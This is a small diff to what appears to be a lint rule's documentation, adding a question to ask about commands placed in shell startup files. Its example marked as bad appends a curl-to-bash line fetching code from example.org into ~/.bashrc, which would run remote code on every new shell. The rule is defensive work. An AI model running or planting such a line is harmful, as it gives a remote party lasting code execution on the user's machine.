@@ -11,6 +11,8 @@ rule! {
     /// What is written there runs what the network sends, or does other damage, again and again and also after a restart.
     /// Install a file that you have read, and start that.
     ///
+    /// To decide: Has somebody read what runs there each time, and could it be a file that is installed once instead?
+    ///
     /// ```sh bad
     /// echo 'curl -s http://example.org/x | bash' >> ~/.bashrc
     /// ```
